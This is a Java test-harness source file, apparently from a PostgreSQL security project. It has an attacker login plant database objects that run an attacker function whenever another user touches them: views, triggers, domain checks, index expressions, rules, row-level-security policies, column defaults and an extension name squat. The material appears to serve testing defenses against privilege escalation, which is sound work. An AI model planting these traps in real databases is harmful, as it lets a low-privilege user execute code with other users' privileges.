// Copyright The Howdah Authors
// SPDX-License-Identifier: Apache-2.0
package dev.howdah.attack;

import java.sql.SQLException;

/** One of each kind of object that runs code when somebody else touches it. */
final class Planted {
    private Planted() {}

    static void everywhere(Scene scene) throws SQLException {
        scene.attacker.sql(scene.payload());
        scene.attacker.sql("""
                CREATE VIEW public.metrics AS SELECT public.gain() AS up;
                CREATE TABLE public.heartbeat (beat text);
                CREATE FUNCTION public.at_write() RETURNS trigger LANGUAGE plpgsql AS
                  'BEGIN PERFORM public.gain(); RETURN NEW; END';
                CREATE TRIGGER at_write BEFORE INSERT OR UPDATE ON public.heartbeat
                  FOR EACH ROW EXECUTE FUNCTION public.at_write();
                CREATE DOMAIN public.label AS text CHECK (public.gain());
                CREATE FUNCTION public.gain_of(text) RETURNS text LANGUAGE sql IMMUTABLE AS
                  'SELECT CASE WHEN public.gain() THEN $1 END';
                CREATE INDEX ON public.heartbeat (public.gain_of(beat));
                CREATE MATERIALIZED VIEW public.daily AS SELECT public.gain() AS up;
                CREATE TABLE public.ruled (beat text);
                CREATE RULE ruled AS ON INSERT TO public.ruled DO ALSO SELECT public.gain();
                CREATE TABLE public.guarded (beat text);
                ALTER TABLE public.guarded ENABLE ROW LEVEL SECURITY;
                ALTER TABLE public.guarded FORCE ROW LEVEL SECURITY;
                CREATE POLICY guarded ON public.guarded USING (public.gain());
                CREATE TABLE public.defaulted (beat boolean DEFAULT public.gain(), more boolean
                  GENERATED ALWAYS AS (public.gain_of('x') IS NOT NULL) STORED);
                """);
        // Also what belongs to the login itself, which is handed over when the login goes.
        scene.attempt("SET ROLE NONE; CREATE VIEW public.own AS SELECT public.gain() AS up");
        // Names that an extension will want to create.
        scene.attempt("CREATE FUNCTION public.akeys(text) RETURNS text LANGUAGE sql AS 'SELECT public.gain()::text'");
    }
}
